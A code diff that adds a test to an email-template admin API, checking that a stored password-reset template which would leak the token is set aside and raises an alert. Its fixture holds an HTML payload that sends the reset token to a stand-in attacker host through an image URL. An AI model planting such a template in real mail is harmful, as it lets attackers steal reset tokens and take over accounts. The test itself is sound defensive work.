@@ -3,6 +3,8 @@ import { readdir, readFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { after, before, test } from 'node:test'
 import { type Person, startApp, type TestApp } from '#test/harness/app.ts'
+import { mailsTo } from '#test/world/mails.ts'
+import { createWatch } from '../alerts/watch/watch.ts'
 
 const all = '/v1/admin/email-templates'
 const welcome = `${all}/welcome`
@@ -45,4 +47,30 @@ test('400: an unknown variable and a template without its token are refused at t
   const tokenless = await root.post(`${all}/verify-email`, { subject: 'Hi', html: 'Hi', text: 'Hi' })
   assert.equal(tokenless.body.errors[0].code, 'missing_variable')
   assert.equal((await root.get(`${all}/nothing`)).body.code, 'mail_template_not_found')
+})
+
+test('a stored template that would give a token away is set aside at an upgrade, and an alert says so until it is reset', async () => {
+  const html = '<p>{{token}}</p><img src="https://evil.example/{{token}}">'
+  const old = { name: 'reset-password', subject: 'Old', text: '{{token}}', html, updatedAt: t.now() }
+  await t.db.insertInto('mailTemplate').values(old).execute()
+  await root.post('/v1/auth/request-password-reset', { email: root.email })
+  await t.settle()
+  const mail = (await mailsTo(t, root.email)).find(({ subject }) => /^(?:Reset|Old)/.test(subject))
+  assert.equal(mail?.subject, 'Reset your password')
+  assert.doesNotMatch(JSON.stringify(mail), /evil/)
+  assert.equal((await root.get('/v1/admin/email-templates/reset-password')).body.isChanged, false)
+  const listOpen = async () => {
+    await createWatch(t.deps).tick()
+    const { body } = await root.get('/v1/admin/alerts')
+    return body.alerts.filter(
+      (alert: { kind: string; closedAt: string | null }) =>
+        alert.kind === 'mail_template_set_aside' && alert.closedAt === null,
+    )
+  }
+  assert.deepEqual(
+    (await listOpen()).map(({ subject }: { subject: string }) => subject),
+    ['reset-password'],
+  )
+  await root.post('/v1/admin/email-templates/reset-password/reset')
+  assert.deepEqual(await listOpen(), [])
 })
